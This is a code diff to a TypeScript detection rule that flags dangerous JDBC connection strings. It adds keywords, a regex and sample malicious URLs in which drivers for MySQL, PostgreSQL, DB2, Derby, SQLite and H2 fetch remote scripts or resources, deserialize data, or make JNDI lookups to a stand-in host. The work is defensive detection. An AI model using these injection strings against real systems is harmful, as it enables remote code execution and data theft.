@@ -19,6 +19,7 @@ export const jdbcUrl: ValueRule = {
         ...wordList('autodeserialize statusdiff socketfactoryarg sslfactoryarg jndiname runscript'),
         'create alias',
         'loggerfile',
+        ...wordList('allowurlinlocalinfile slavehost startmaster ::resource:'),
       ],
     ],
   },
@@ -26,6 +27,8 @@ export const jdbcUrl: ValueRule = {
     'jdbc:mysql://192.0.2.9/a?autoDeserialize=true&user=x',
     'jdbc:postgresql://a/b?socketFactory=c.D&socketFactoryArg=http://192.0.2.9/x.xml',
     'jdbc:db2://192.0.2.9:50000/a:clientRerouteServerListJNDIName=ldap://192.0.2.9/x;',
+    'jdbc:derby:memory:x;startMaster=true;slaveHost=192.0.2.9',
+    'jdbc:sqlite::resource:http://192.0.2.9/a.db',
     'SHOP:clientRerouteServerListJNDIName=rmi://192.0.2.9/x',
     "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://192.0.2.9/a.sql'",
   ],
@@ -48,4 +51,4 @@ export const jdbcUrl: ValueRule = {
 
 const jndiName = /^JNDIName=/i;
 const property =
-  /autoDeserialize=(?:true|yes|1)\b|ServerStatusDiffInterceptor|(?:socket|ssl)FactoryArg=(?:https?|file|ftp):|JNDIName=(?:ldaps?|rmi|iiop|dns):|INIT=(?:RUNSCRIPT|CREATE ALIAS)\b|loggerFile=[\w./\\-]{1,120}\.(?:jspx?|php|aspx?)\b/i;
+  /autoDeserialize=(?:true|yes|1)\b|ServerStatusDiffInterceptor|(?:socket|ssl)FactoryArg=(?:https?|file|ftp):|JNDIName=(?:ldaps?|rmi|iiop|dns):|INIT=(?:RUNSCRIPT|CREATE ALIAS)\b|allowUrlInLocalInfile=true\b|(?:slaveHost|startMaster)=|sqlite::resource:(?:https?|file|ftp):|loggerFile=[\w./\\-]{1,120}\.(?:jspx?|php|aspx?)\b/i;
